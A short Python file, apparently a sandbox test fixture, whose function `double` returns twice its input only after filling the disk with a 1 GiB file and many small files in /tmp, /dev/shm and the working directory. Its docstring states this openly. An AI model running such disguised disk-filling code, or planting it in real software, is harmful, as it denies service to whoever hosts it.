"""Fills the disk with one large file, with many, and with empty ones."""
import os


def double(x):
    written = 0
    try:
        with open("large", "wb") as file:
            while written < 2**30:
                written += file.write(bytes(2**20))
    except OSError:
        pass
    for folder in ("/tmp", "/dev/shm", "."):
        try:
            for k in range(100_000):
                with open(f"{folder}/{k}", "wb") as file:
                    file.write(bytes(2**12))
                    written += 2**12
        except OSError:
            pass
    return 2 * x if written > 2**28 else 0
